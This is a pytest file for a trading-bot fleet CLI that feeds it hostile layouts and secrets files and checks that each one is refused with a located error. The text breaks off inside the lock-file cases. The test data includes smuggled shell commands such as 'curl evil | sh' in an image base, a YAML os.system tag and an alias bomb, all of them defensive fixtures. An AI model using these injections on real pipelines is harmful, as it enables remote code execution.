"""Hostile and broken inputs: every one ends in exit 1 with FILE:LINE (or exit 0), in bounded
time and memory, never a traceback or a hang, and nothing is written after an error.

Three parts: a table of cases per class of input (layout YAML, names, paths, image inputs,
strategies, lock files, secrets, the command line); the worst of them again in a child
process under a memory limit and a timeout; and a hypothesis fuzzer that mutates the
example layouts and their lock files.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from botpool.cli import main
from botpool.core.secretstore import SecretsError, SecretStore

REPO = Path(__file__).resolve().parent.parent
LOCATED = re.compile(r"^\S.*:\d+: ")  # FILE:LINE: ...
SUMMARY = re.compile(r"^\d+ problem\(s\); nothing was changed$")

BASE = """\
defaults:
  root: /opt/botpool-test
  image: {}
  bot:
    exchange: sandbox
    strategy: SampleStrategy
    stake_amount: 10
    dry_run_wallet: 1000
    pairs: [BTC/USDT]
hosts:
  local: {}
exchanges: {}
users:
  alice:
    bots:
      - name: one
"""


def run(*argv: str) -> tuple[int, str]:
    """The CLI in this process: (exit code, stderr). An exception escaping it fails the test."""
    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        try:
            code = main(list(argv))
        except SystemExit as exc:  # argparse
            code = int(exc.code or 0)
    return code, err.getvalue()


def assert_refused(code: int, stderr: str, *expected: str) -> None:
    """Exit 1, every line located (FILE:LINE) or a plain `error:`, each expected text shown."""
    assert code == 1, stderr
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert lines, "no message at all"
    for line in lines:
        assert LOCATED.match(line) or SUMMARY.match(line) or line.startswith("error: "), line
    for text in expected:
        assert text in stderr, stderr
    assert "Traceback" not in stderr
    assert "\x1b" not in stderr  # nothing reaches the terminal unescaped


def files_under(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b""
        for p in sorted(folder.rglob("*"))
        if not p.is_fifo()
    }


@pytest.fixture
def lay(layout_dir: Path, secrets: SecretStore) -> Path:
    secrets.directory.mkdir(mode=0o700)
    path = layout_dir / "layout.yaml"
    path.write_text(BASE)
    return path


def edit(path: Path, old: str, new: str) -> Path:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    return path


def refused_everywhere(path: Path, *expected: str) -> None:
    """validate, plan and render all refuse, and nothing is written by any of them."""
    out = path.parent / "rendered"
    before = files_under(path.parent)
    for argv in (
        ("validate", str(path)),
        ("plan", str(path)),
        ("plan", str(path), "--check"),
        ("render", str(path), "--out", str(out)),
    ):
        code, stderr = run(*argv)
        assert_refused(code, stderr, *expected)
    assert files_under(path.parent) == before
    assert not out.exists()


# --- YAML ------------------------------------------------------------------------------------

LAUGHS = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 10)}]\n"
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True)
)

YAML_CASES = {
    "recursive alias": ("  image: {}\n", "  image: &a {x: *a}\n", "alias that contains itself"),
    "exponential aliases": (
        "hosts:",
        "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + LAUGHS + "hosts:",
        "more than 100,000 values",
    ),
    "deep flow nesting": (
        "  image: {}\n",
        "  image: " + "[" * 5000 + "]" * 5000 + "\n",
        "nested deeper than 32 levels",
    ),
    "deep block nesting": (
        "exchanges: {}\n",
        "x:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(60)) + "exchanges: {}\n",
        "nested deeper than 32 levels",
    ),
    "NUL byte": ("name: one", "name: o\x00ne", "the character \\x00 is not allowed"),
    "ANSI escape": ("name: one", "name: \x1b[2Jone", "the character \\x1b is not allowed"),
    "python tag": (
        "name: one",
        "name: !!python/object/apply:os.system [id]",
        "is not supported: write plain values",
    ),
    "custom tag on a mapping": ("  image: {}", "  image: !evil {}", "YAML tag '!evil'"),
    "set tag": ("  image: {}", "  image: !!set {a}", "tag:yaml.org,2002:set"),
    "binary tag": ("name: one", "name: !!binary b25l", "tag:yaml.org,2002:binary"),
    "date for a name": ("name: one", "name: 2026-01-01", "as a date: quote it"),
    "date for root": ("root: /opt/botpool-test", "root: 2026-01-01", "as a date: quote it"),
    "thousands of digits": (
        "stake_amount: 10",
        "stake_amount: " + "9" * 5000,
        "is not a number botpool accepts",
    ),
    "NaN": ("stake_amount: 10", "stake_amount: .nan", "is not a number botpool accepts"),
    "infinity": ("dry_run_wallet: 1000", "dry_run_wallet: .inf", "is not a number"),
    "negative infinity": ("dry_run_wallet: 1000", "dry_run_wallet: -.inf", "is not a number"),
    "memory 1e30": ("  local: {}", "  local: {memory_mb: 1.0e+30}", "is not a number"),
    "memory 1e9 float": ("  local: {}", "  local: {memory_mb: 1.0e+9}", "expected a whole number"),
    "memory 10**15": (
        "  local: {}",
        "  local: {memory_mb: 1000000000000000}",
        "must be between 256 and 16777216",
    ),
    "stake 1e300": ("stake_amount: 10", "stake_amount: 1.0e+300", "is not a number"),
    "stake 1e15": ("stake_amount: 10", "stake_amount: 1.0e+15", "must be at most 1e+12"),
    "merge key": ("  image: {}", "  image: {<<: {base: local}}", "merge keys (<<)"),
    "duplicate key": (
        "    stake_amount: 10",
        "    stake_amount: 10\n    stake_amount: 20",
        "duplicate key",
    ),
}


@pytest.mark.parametrize("case", YAML_CASES, ids=list(YAML_CASES))
def test_hostile_yaml_is_refused_with_its_line(lay, case):
    old, new, expected = YAML_CASES[case]
    refused_everywhere(edit(lay, old, new), expected)


def test_a_layout_that_is_not_utf8_names_the_line_of_the_bad_byte(lay):
    lay.write_bytes(BASE.replace("name: one", "name: caf\xe9").encode("latin-1"))
    refused_everywhere(lay, ":16: not valid UTF-8 (byte 0xe9)")


def test_a_utf16_layout_is_refused(lay):
    lay.write_bytes(BASE.encode("utf-16"))
    refused_everywhere(lay, "the file is UTF-16-encoded: save it as UTF-8")


def test_a_layout_above_one_mib_is_refused(lay):
    lay.write_text(BASE + "#" * (1 << 20) + "\n")
    refused_everywhere(lay, "larger than 1024 KiB")


@pytest.mark.parametrize("kind", ["fifo", "directory", "dev-zero"])
def test_a_layout_that_is_not_a_regular_file_is_refused_at_once(lay, kind):
    lay.unlink()
    {"fifo": os.mkfifo, "directory": os.mkdir, "dev-zero": lambda p: os.symlink("/dev/zero", p)}[
        kind
    ](lay)
    code, stderr = run("validate", str(lay))
    assert_refused(code, stderr, "cannot read the layout")


# --- names and values: full matches only (a trailing newline never passes) -----------------

NEWLINE_CASES = {
    "user": ("  alice:", '  "alice\\n":', "is not a valid name"),
    "bot": ("name: one", 'name: "one\\n"', "is not a valid name"),
    "pair": ("pairs: [BTC/USDT]", 'pairs: ["BTC/USDT\\n"]', "malformed pair"),
    "stake currency": (
        "    pairs: [BTC/USDT]",
        '    pairs: [BTC/USDT]\n    stake_currency: "USDT\\n"',
        "expected a currency code",
    ),
    "strategy": (
        "strategy: SampleStrategy",
        'strategy: "SampleStrategy\\n"',
        "expected a strategy class name",
    ),
    "timeframe": (
        "    pairs: [BTC/USDT]",
        '    pairs: [BTC/USDT]\n    timeframe: "5m\\n"',
        "is not a timeframe",
    ),
    "exchange profile": (
        "exchanges: {}",
        'exchanges: {"mine\\n": {sandbox: true}}',
        "is not a valid name",
    ),
    "ccxt id": (
        "exchanges: {}",
        'exchanges: {mine: {exchange: "binance\\n"}}',
        "expected a ccxt exchange id",
    ),
    "credentials": (
        "    pairs: [BTC/USDT]",
        '    pairs: [BTC/USDT]\n    credentials: "bn\\n"',
        "expected a plain name",
    ),
    "host": ("  local: {}", '  "local\\n": {}', "is not a host name"),
    "user pin": ("  alice:", '  alice:\n    host: "local\\n"', "expected a host name"),
    "pool placement": (
        "  alice:",
        '  alice:\n    pools: {"alice-pool-1\\n": local}',
        "is not a pool of alice",
    ),
    "freqtrade version": (
        "  image: {}",
        '  image: {}\n  freqtrade_version: "2026.9\\n"',
        "expected a version string",
    ),
    "runtime": ("  image: {}", '  image: {}\n  runtime: "zygote\\n"', "unknown runtime"),
    "image base": (
        "  image: {}",
        '  image: {base: "debian:12\\nRUN curl evil | sh"}',
        "is not an image reference",
    ),
    "pip index": (
        "  image: {}",
        '  image: {pip_index_url: "https://pypi.org/simple\\n[global]"}',
        "expected an https URL",
    ),
    "pip package": (
        "  image: {}",
        '  image: {pip_packages: ["numpy==2.0\\n"]}',
        "is not a pip requirement",
    ),
    "root": ("root: /opt/botpool-test", 'root: "/opt/botpool\\n"', "control characters"),
}


@pytest.mark.parametrize("case", NEWLINE_CASES, ids=list(NEWLINE_CASES))
def test_a_trailing_newline_never_passes_a_pattern(lay, case):
    old, new, expected = NEWLINE_CASES[case]
    refused_everywhere(edit(lay, old, new), expected)


ROOTS = {
    "relative": "opt/botpool",
    "the root folder": "/",
    "/etc": "/etc",
    "under /etc": "/etc/cron.d/botpool",
    "dot-dot": "/opt/../etc/botpool",
    "trailing slash": "/opt/botpool/",
    "colon": "/opt/bot:pool",
    "tilde": "~/botpool",
    "/usr": "/usr",
    "/var": "/var",
    "/proc": "/proc/1/root",
    "/run": "/run/botpool",
}


@pytest.mark.parametrize("root", ROOTS.values(), ids=list(ROOTS))
def test_a_dangerous_root_is_refused(lay, root):
    refused_everywhere(edit(lay, "root: /opt/botpool-test", f"root: {json.dumps(root)}"), "root")


@pytest.mark.parametrize("root", ["/opt/botpool", "/srv/fleet", "/usr/local/botpool", "/tmp/x"])
def test_ordinary_roots_pass(lay, root):
    code, stderr = run("validate", str(edit(lay, "root: /opt/botpool-test", f"root: {root}")))
    assert code == 0, stderr


IMAGE_CASES = {
    "http index": ('{pip_index_url: "http://pypi.org/simple"}', "expected an https URL"),
    "pip option": ('{pip_packages: ["--index-url=https://evil"]}', "is not a pip requirement"),
    "pip URL": ('{pip_packages: ["git+https://evil/x.git"]}', "is not a pip requirement"),
    "pip marker": ("{pip_packages: [\"x; os_name=='nt'\"]}", "is not a pip requirement"),
    "pip space": ('{pip_packages: ["numpy pandas"]}', "is not a pip requirement"),
    "version with shell": ('{}\n  freqtrade_version: "2026.9 && id"', "expected a version string"),
    "base with spaces": ('{base: "debian:12 AS x"}', "is not an image reference"),
}


@pytest.mark.parametrize("case", IMAGE_CASES, ids=list(IMAGE_CASES))
def test_image_inputs_must_match_strict_formats(lay, case):
    value, expected = IMAGE_CASES[case]
    refused_everywhere(edit(lay, "  image: {}", f"  image: {value}"), expected)


def test_ordinary_image_inputs_pass(lay):
    edit(
        lay,
        "  image: {}",
        '  image: {base: "registry.example.com:5000/freqtradeorg/freqtrade:{version}_x", '
        'pip_index_url: "https://pypi.example.com/simple/", '
        'pip_packages: ["scikit-learn==1.5.2", "ta[extra]>=0.10,<1", "numpy"]}',
    )
    code, stderr = run("validate", str(lay))
    assert code == 0, stderr


def test_a_ca_bundle_must_hold_certificates_only(lay, secrets):
    key = secrets.directory / "master.key"
    secrets.master_key()  # creates it: the file an attacker would like copied into an image
    cases = {
        str(key): "must hold PEM certificates only",
        "/dev/zero": "not a regular file",
        "/etc": "not a regular file",
        str(REPO / "README.md"): "must hold PEM certificates only",
    }
    private = lay.parent / "key.pem"
    private.write_text("-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n")
    cases[str(private)] = "must hold PEM certificates only"
    mixed = lay.parent / "mixed.pem"
    mixed.write_text(Path("/etc/ssl/certs/ca-certificates.crt").read_text() + private.read_text())
    cases[str(mixed)] = "must hold PEM certificates only"
    for bundle, expected in cases.items():
        lay.write_text(BASE.replace("  image: {}", f"  image: {{ca_bundle: {bundle}}}"))
        refused_everywhere(lay, expected)
        assert key.read_text().strip() not in run("validate", str(lay))[1]


def test_the_system_ca_bundle_passes(lay):
    edit(lay, "  image: {}", "  image: {ca_bundle: /etc/ssl/certs/ca-certificates.crt}")
    assert run("validate", str(lay))[0] == 0


CCXT_SECRETS = {
    "api_key": "{api_key: x}",
    "apiSecret": "{apiSecret: x}",
    "headers": "{headers: {X-MBX-APIKEY: x}}",
    "nested list": "{options: {accounts: [{secret: x}]}}",
    "dashes": "{API-KEY: x}",
}


@pytest.mark.parametrize("config", CCXT_SECRETS.values(), ids=list(CCXT_SECRETS))
def test_credentials_in_ccxt_config_are_refused_however_spelled(lay, config):
    edit(lay, "exchanges: {}", f"exchanges: {{real: {{exchange: binance, ccxt_config: {config}}}}}")
    refused_everywhere(lay, "credentials do not belong in the layout")


def test_harmless_ccxt_options_pass(lay):
    edit(lay, "exchanges: {}", "exchanges: {real: {ccxt_config: {options: {defaultType: spot}}}}")
    assert run("validate", str(lay))[0] == 0


@pytest.mark.parametrize(
    "labels",
    ['{region: "eu\\e[2J"}', '{"my region": eu}', "{region: [eu]}", '{region: "a\\nb"}'],
    ids=["ANSI escape", "space in name", "a list", "newline"],
)
def test_host_labels_are_printable_plain_values(lay, labels):
    refused_everywhere(edit(lay, "  local: {}", f"  local: {{labels: {labels}}}"), "labels")


def test_unhashable_values_where_names_are_expected_are_errors(lay):
    edit(lay, "  alice:", "  alice:\n    pools: {alice-pool-1: [local]}\n    host: [local]")
    refused_everywhere(lay, "unknown host", "expected a host name")


# --- notifications and FreqUI ----------------------------------------------------------------

NOTIFY = "    notify: {webhook: {credentials: hook}}\n    pairs: [BTC/USDT]"
NOTIFY_CASES = {
    "credentials with a newline": ('{webhook: {credentials: "hook\\n"}}', "letters, digits"),
    "credentials with ../": ('{webhook: {credentials: "../credentials/bn"}}', "letters, digits"),
    "credentials a list": ("{webhook: {credentials: [hook]}}", "letters, digits"),
    "entry a text": ("{webhook: hook}", "expected a mapping such as {credentials: <name>}"),
    "notify a list": ("[webhook]", "expected a mapping of telegram, discord, webhook"),
    "huge format": (
        "{webhook: {credentials: hook, messages: {entry: " + "x" * 5000 + "}}}",
        "at most 1024 characters",
    ),
    "format with an escape": (
        '{webhook: {credentials: hook, messages: {entry: "\\e[2J{pair}"}}}',
        "control characters",
    ),
    "format reaching into an object": (
        '{webhook: {credentials: hook, messages: {entry: "{pair.__class__.__mro__}"}}}',
        "is not a field of entry messages",
    ),
    "a huge payload": (
        "{webhook: {credentials: hook, messages: {entry: [" + ", ".join(["x"] * 500) + "]}}}",
        "at most 50 values",
    ),
}


@pytest.mark.parametrize("case", NOTIFY_CASES, ids=list(NOTIFY_CASES))
def test_hostile_notify_settings_are_refused(lay, case):
    value, expected = NOTIFY_CASES[case]
    refused_everywhere(
        edit(lay, "    pairs: [BTC/USDT]", f"    notify: {value}\n    pairs: [BTC/USDT]"),
        "defaults.bot.notify",
        expected,
    )


# a secrets file as it must not be: kind -> what is planted where the file belongs (a good
# file's text has SECRETPATH where its URL's path goes: no message may show it)
SECRET_FILES = {
    "missing": None,
    "fifo": "fifo",
    "dev-zero": "dev-zero",
    "a link to a private file": "link",
    "folder": "folder",
    "huge": lambda good: good.replace("SECRETPATH", "a" * (2 << 20)).encode(),
    "latin-1": lambda good: good.replace("SECRETPATH", "caf\xe9").encode("latin-1"),
    "mode 0644": lambda good: good.encode(),
    "empty": lambda good: b"",
    "a NUL in the url": lambda good: good.replace("SECRETPATH", "a\\u0000b").encode(),
    "a newline in the url": lambda good: good.replace("SECRETPATH", "a\\nb").encode(),
    "its folder open to others": "open folder",
}


def plant(bad: Path, kind: str, good: str) -> None:
    """Put the kind of bad secrets file at `bad` (its folder made 0700 first)."""
    bad.parent.mkdir(mode=0o700, exist_ok=True)
    how = SECRET_FILES[kind]
    if how is None:
        return
    if how == "fifo":
        os.mkfifo(bad, 0o600)
    elif how == "dev-zero":
        bad.symlink_to("/dev/zero")
    elif how == "link":  # a private, valid file elsewhere: still refused (never followed)
        target = bad.parent.parent.parent / "elsewhere"
        target.write_text(good)
        target.chmod(0o600)
        bad.symlink_to(target)
    elif how == "folder":
        bad.mkdir(mode=0o700)
    elif how == "open folder":
        bad.write_text(good)
        bad.chmod(0o600)
        bad.parent.chmod(0o755)
    else:
        bad.write_bytes(how(good))
        bad.chmod(0o644 if kind == "mode 0644" else 0o600)


def plant_url(bad: Path, kind: str, url: str) -> None:
    """plant() for a file of one URL on one line: its NUL is a real one, its newline a
    second line (a JSON file's are escapes inside a string)."""
    if kind == "a newline in the url":
        text = url.encode() + b"http://other:8000/\n"
    elif kind == "a NUL in the url":
        text = url.replace("SECRETPATH", "a\x00SECRETPATH").encode()
    else:
        plant(bad, kind, url)
        return
    plant(bad, "mode 0644", "")
    bad.write_bytes(text)
    bad.chmod(0o600)


@pytest.mark.parametrize("kind", SECRET_FILES, ids=list(SECRET_FILES))
def test_a_hostile_notify_secret_file_is_a_clear_error_never_a_hang(lay, secrets, kind):
    bad = secrets.directory / "notify" / "hook.json"
    plant(bad, kind, '{"url": "http://sink:8000/SECRETPATH"}')
    where = bad.parent if kind == "its folder open to others" else bad
    refused_everywhere(edit(lay, "    pairs: [BTC/USDT]", NOTIFY), f"{where}", ":9: ")
    assert "SECRETPATH" not in run("validate", str(lay))[1]


@pytest.mark.parametrize("kind", SECRET_FILES, ids=list(SECRET_FILES))
def test_a_hostile_alert_webhook_file_is_refused_at_its_layout_line(lay, secrets, kind):
    bad = secrets.directory / "alerts" / "ops.url"
    plant_url(bad, kind, "http://sink:8000/SECRETPATH\n")
    lay.write_text(BASE + "monitoring: {webhook: ops}\n")
    where = bad.parent if kind == "its folder open to others" else bad
    line = len(BASE.splitlines()) + 1
    refused_everywhere(lay, f"{lay}:{line}: monitoring.webhook: ", f"{where}")
    assert "SECRETPATH" not in run("validate", str(lay))[1]


# --- the newer keys: monitoring, backups, max_bots_per_host, freqtrade -------------------------

HUGE = "x" * 200_000
# case -> (the section, the key named, what the message says); every one is refused by
# validate, plan and render at its line, and the message stays short (a huge value is cut)
NEWER_KEYS = {
    "monitoring a list": ("monitoring: [enabled]", "monitoring", "expected a mapping"),
    "monitoring.enabled a text": ("monitoring: {enabled: 'no'}", "enabled", "true or false"),
    "monitoring.enabled huge": (f"monitoring: {{enabled: {HUGE}}}", "enabled", "more characters"),
    "monitoring.base_port negative": ("monitoring: {base_port: -1}", "base_port", "between"),
    "monitoring.base_port zero": ("monitoring: {base_port: 0}", "base_port", "between 1024"),
    "monitoring.base_port a float": ("monitoring: {base_port: 19090.5}", "base_port", "whole"),
    "monitoring.memory_limit_mb huge": (
        "monitoring: {memory_limit_mb: 99999999999999}",
        "memory_limit_mb",
        "must be between 128",
    ),
    "a duration with a newline": ('monitoring: {scrape_interval: "15s\\n"}', "scrape_", "duration"),
    "a duration with a NUL": ('monitoring: {retention: "15d\\0"}', "retention", "duration"),
    "a duration negative": ("monitoring: {bot_down_for: -5m}", "bot_down_for", "duration"),
    "a duration zero": ("monitoring: {api_down_for: 0s}", "api_down_for", "duration"),
    "a duration beyond Go's": ("monitoring: {retention: 999999y}", "retention", "1s and 10y"),
    "a duration below a second": ("monitoring: {scrape_interval: 10ms}", "scrape_", "1s and 10y"),
    "a duration a number": ("monitoring: {group_wait: 30}", "group_wait", "duration"),
    "a duration huge": (f"monitoring: {{repeat_interval: {HUGE}}}", "repeat_", "more characters"),
    "retention_size negative": ("monitoring: {retention_size: -1GB}", "retention_size", "size"),
    "pool_memory_share zero": ("monitoring: {pool_memory_share: 0}", "pool_memory", "more than 0"),
    "pool_memory_share NaN": ("monitoring: {pool_memory_share: .nan}", "pool_memory", "number"),
    "pool_memory_mb zero": ("monitoring: {pool_memory_mb: 0}", "pool_memory_mb", "between"),
    "pool_memory_mb huge": ("monitoring: {pool_memory_mb: 1e400}", "pool_memory_mb", ""),
    "pool_memory_mb a text": ("monitoring: {pool_memory_mb: 500MB}", "pool_memory_mb", ""),
    "crash_loop_restarts zero": ("monitoring: {crash_loop_restarts: 0}", "crash_loop", "between"),
    "webhook ../": ('monitoring: {webhook: "../master"}', "webhook", "a plain name"),
    "webhook with a newline": ('monitoring: {webhook: "ops\\n"}', "webhook", "a plain name"),
    "webhook a list": ("monitoring: {webhook: [ops]}", "webhook", "a plain name"),
    "webhook huge": (f"monitoring: {{webhook: {HUGE}}}", "webhook", "more characters"),
    "backups a number": ("backups: 5", "backups", "expected a mapping"),
    "backups.interval_minutes zero": ("backups: {interval_minutes: 0}", "interval", "between 5"),
    "backups.hourly negative": ("backups: {hourly: -1}", "hourly", "between 1"),
    "backups.daily huge": ("backups: {daily: 99999999999999}", "daily", "between 0 and 10000"),
    "backups.enabled a list": ("backups: {enabled: [true]}", "enabled", "true or false"),
    "backups.hourly a text": ('backups: {hourly: "24\\n"}', "hourly", "whole number"),
}
EXCHANGE_CASES = {
    "zero": ("0", "between 1 and 10000"),
    "negative": ("-3", "between 1 and 10000"),
    "huge": ("99999999999999", "between 1 and 10000"),
    "a float": ("1.5", "whole number"),
    "a text": ("'4'", "whole number"),
    "a list": ("[4]", "whole number"),
}


@pytest.mark.parametrize("case", NEWER_KEYS, ids=list(NEWER_KEYS))
def test_hostile_values_of_the_newer_keys_are_refused_at_their_line(lay, case):
    section, key, expected = NEWER_KEYS[case]
    lay.write_text(BASE + section + "\n")
    line = len(BASE.splitlines()) + 1
    refused_everywhere(lay, f"{lay}:{line}: ", key, expected)
    assert len(run("validate", str(lay))[1]) < 5000  # never the whole huge value


@pytest.mark.parametrize("case", EXCHANGE_CASES, ids=list(EXCHANGE_CASES))
def test_a_hostile_max_bots_per_host_is_refused_at_its_line(lay, case):
    value, expected = EXCHANGE_CASES[case]
    edit(
        lay, "exchanges: {}", f"exchanges:\n  kr: {{exchange: kraken, max_bots_per_host: {value}}}"
    )
    refused_everywhere(lay, f"{lay}:13: exchanges.kr.max_bots_per_host: ", expected)


FREQTRADE_CASES = {
    "not a mapping": ("[stoploss]", "defaults.bot.freqtrade", "expected a mapping"),
    "an owned key, nested": ("{exchange: {key: x}}", "freqtrade.exchange.key", "secrets folder"),
    "a secret, deep in a list": (
        "{pairlists: [{method: X, cfg: {api_token: x}}]}",
        "defaults.bot.freqtrade.pairlists",
        "looks like a secret",
    ),
    # the fuzzer's find: a traceback ("'NoneType' object is not iterable")
    "pair lists not a list": ("{pairlists: 5}", "defaults.bot.freqtrade", "is a list of pair"),
}


@pytest.mark.parametrize("case", FREQTRADE_CASES, ids=list(FREQTRADE_CASES))
def test_hostile_freqtrade_settings_are_refused_at_their_line(lay, case):
    value, key, expected = FREQTRADE_CASES[case]
    edit(lay, "    pairs: [BTC/USDT]", f"    freqtrade: {value}\n    pairs: [BTC/USDT]")
    refused_everywhere(lay, f"{lay}:9: ", key, expected)
    assert len(run("validate", str(lay))[1]) < 5000


@pytest.mark.parametrize(
    ("section", "key"),
    [
        ("monitoring:\n  ? KEY\n  : 1\n", "monitoring.xxx"),
        ("backups:\n  ? KEY\n  : 1\n", "backups."),
    ],
)
def test_a_huge_key_is_named_cut_short(lay, section, key):
    """YAML's explicit keys have no length limit (implicit ones stop at 1024 characters)."""
    lay.write_text(BASE + section.replace("KEY", HUGE))
    line = len(BASE.splitlines()) + 2
    refused_everywhere(lay, f"{lay}:{line}: {key}", "more characters")
    assert len(run("validate", str(lay))[1]) < 5000


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("{max_entry_position_adjustment: [1]}", "max_entry_position_adjustment: [1] is not"),
        (
            "{order_types: {entry: sideways, exit: limit, stoploss: market, "
            "stoploss_on_exchange: false}}",
            "order_types.entry: 'sideways' is not one of",
        ),
        ('{bot_loop_start_hint: "\\0\\n\\e"}', None),  # freqtrade has no such key: passes
    ],
)
def test_freqtrade_judges_any_other_setting_and_names_its_line(lay, value, expected):
    edit(lay, "    pairs: [BTC/USDT]", f"    freqtrade: {value}\n    pairs: [BTC/USDT]")
    code, stderr = run("validate", str(lay))
    if expected is None:
        assert code == 0, stderr
        return
    assert_refused(code, stderr, f"{lay}:9: defaults.bot.freqtrade.", expected)


# --- alert delivery (monitoring: receivers, routing, watchdog) -----------------------------

ALERT_CASES = {
    "receivers a list": ("{receivers: [ops]}", "monitoring.receivers", "expected a mapping"),
    "receiver kind unknown": ("{receivers: {ops: pager}}", "monitoring.receivers", "not a kind"),
    "receiver kind a number": ("{receivers: {ops: -1}}", "monitoring.receivers", "not a kind"),
    "receiver name with a newline": (
        '{receivers: {"ops\\n": slack}}',
        "monitoring.receivers",
        "not a receiver name",
    ),
    "receiver name of ../": (
        '{receivers: {"../credentials/bn": slack}}',
        "monitoring.receivers",
        "not a receiver name",
    ),
    "huge receiver kind": (
        "{receivers: {ops: " + "s" * 5000 + "}}",
        "monitoring.receivers",
        "not a kind",
    ),
    "too many receivers": (
        "{receivers: {" + ", ".join(f"r{i}: slack" for i in range(101)) + "}}",
        "monitoring.receivers",
        "at most 100 receivers",
    ),
    "operator not declared": ("{operator: ops}", "monitoring.operator", "no receiver 'ops'"),
    "operator a list": ("{operator: [ops]}", "monitoring.operator", "expected a receiver name"),
    "user routed to nothing": (
        "{user_receivers: {alice: ops}}",
        "monitoring.user_receivers.alice",
        "no receiver 'ops'",
    ),
    "unknown user routed": (
        "{receivers: {ops: slack}, user_receivers: {mallory: ops}}",
        "monitoring.user_receivers.mallory",
        "no user 'mallory'",
    ),
    "user_receivers a text": (
        "{user_receivers: alice}",
        "monitoring.user_receivers",
        "expected a mapping of user name",
    ),
    "watchdog with a newline": (
        '{watchdog: "deadman\\n"}',
        "monitoring.watchdog",
        "expected a plain name",
    ),
    "watchdog interval negative": (
        "{watchdog_interval: -5m}",
        "monitoring.watchdog_interval",
        "expected a Prometheus duration",
    ),
    "threshold negative": (
        "{heartbeat_max_age_seconds: -1}",
        "monitoring.heartbeat_max_age_seconds",
        "must be between 10 and 86400",
    ),
    "threshold huge": (
        "{stagnant_after_minutes: 99999999999999999999}",
        "monitoring.stagnant_after_minutes",
        "not a number botpool accepts",
    ),
    "share a text": ("{host_disk_min_free_share: ten}", "monitoring.host_disk_min_free_share", ""),
}


@pytest.mark.parametrize("case", ALERT_CASES, ids=list(ALERT_CASES))
def test_hostile_alert_delivery_settings_are_refused(lay, case):
    value, key, expected = ALERT_CASES[case]
    refused_everywhere(edit(lay, "hosts:\n", f"monitoring: {value}\nhosts:\n"), key, expected)


@pytest.mark.parametrize("kind", [*SECRET_FILES, "wrong type"])
def test_a_hostile_receiver_file_is_a_clear_error_never_a_hang(lay, secrets, kind):
    bad = secrets.directory / "alerts" / "ops.json"
    if kind == "wrong type":  # valid JSON, not the values a receiver needs
        plant(bad, "mode 0644", "")
        bad.write_text('{"url": ["SECRETPATH"], "token": 5}')
        bad.chmod(0o600)
    else:
        plant(bad, kind, '{"url": "https://hooks.slack.com/services/SECRETPATH"}')
    edit(lay, "hosts:\n", "monitoring: {receivers: {ops: slack}, operator: ops}\nhosts:\n")
    where = bad.parent if kind == "its folder open to others" else bad
    refused_everywhere(lay, "monitoring.receivers.ops", f"{where}")
    assert "SECRETPATH" not in run("validate", str(lay))[1]


@pytest.mark.parametrize("kind", SECRET_FILES, ids=list(SECRET_FILES))
def test_a_hostile_watchdog_file_is_a_clear_error_never_a_hang(lay, secrets, kind):
    bad = secrets.directory / "alerts" / "deadman.url"
    plant_url(bad, kind, "https://hc-ping.example.org/SECRETPATH/{host}\n")
    edit(lay, "hosts:\n", "monitoring: {watchdog: deadman}\nhosts:\n")
    where = bad.parent if kind == "its folder open to others" else bad
    refused_everywhere(lay, "monitoring.watchdog", f"{where}")
    assert "SECRETPATH" not in run("validate", str(lay))[1]


ORIGINS = {
    "a path": ("[http://127.0.0.1:9000/ui]", "is not an origin"),
    "a trailing slash": ("[http://127.0.0.1:9000/]", "is not an origin"),
    "a newline": ('["http://127.0.0.1:9000\\n"]', "is not an origin"),
    "a wildcard": ('["*"]', "is not an origin"),
    "uppercase": ("[http://LOCALHOST:9000]", "in lowercase"),
    "a default port": ("[http://127.0.0.1:80]", "browsers leave the default port out"),
    "a port too high": ("[http://127.0.0.1:99999]", "is not between 1 and 65535"),
    "a user": ("[http://me@127.0.0.1:9000]", "is not an origin"),
    "another scheme": ("[file://x]", "is not an origin"),
    "one origin, not a list": ("http://127.0.0.1:9000", "expected a list"),
    "too many": ("[" + ", ".join(f"http://h{i}:9000" for i in range(21)) + "]", "at most 20"),
    "twice": ("[http://a:1, http://a:1]", "listed twice"),
}


@pytest.mark.parametrize("case", ORIGINS, ids=list(ORIGINS))
def test_frequi_origins_are_origins_as_browsers_send_them(lay, case):
    value, expected = ORIGINS[case]
    refused_everywhere(
        edit(lay, "  image: {}", f"  image: {{}}\n  frequi_origins: {value}"),
        "defaults.frequi_origins",
        expected,
    )


def test_ordinary_frequi_origins_pass(lay):
    origins = "[http://127.0.0.1:9000, https://frequi.example.com, 'http://[::1]:8080', http://x]"
    edit(lay, "  image: {}", f"  image: {{}}\n  frequi_origins: {origins}")
    assert run("validate", str(lay)) == (0, "")


# --- strategy folders --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder", "latin-1", "huge"])
def test_a_hostile_strategy_file_is_a_clear_error_never_a_hang(lay, kind):
    bad = lay.parent / "strategies" / "bad.py"
    if kind == "fifo":
        os.mkfifo(bad)
    elif kind == "dev-zero":
        bad.symlink_to("/dev/zero")
    elif kind == "folder":
        bad.mkdir()
    elif kind == "latin-1":
        bad.write_bytes("# caf\xe9\nclass X(object): pass\n".encode("latin-1"))
    else:
        bad.write_text("#" * (2 << 20))
    refused_everywhere(lay, "bad.py")


# --- lock files ------------------------------------------------------------------------------

LOCK = """\
# Written by `botpool plan`: the pool, slot and ports of every bot. Commit it beside the
# layout; edit the layout, not this file. It keeps bots where they are when others change.
version: 1
pools:
  alice-pool-1: {user: alice, host: local, first_port: 9000, size: 10}
bots:
  alice/one: {pool: alice-pool-1, slot: 0}
"""

LOCK_CASES = {
    "path traversal pool": (
        "alice-pool-1: {user: alice,",
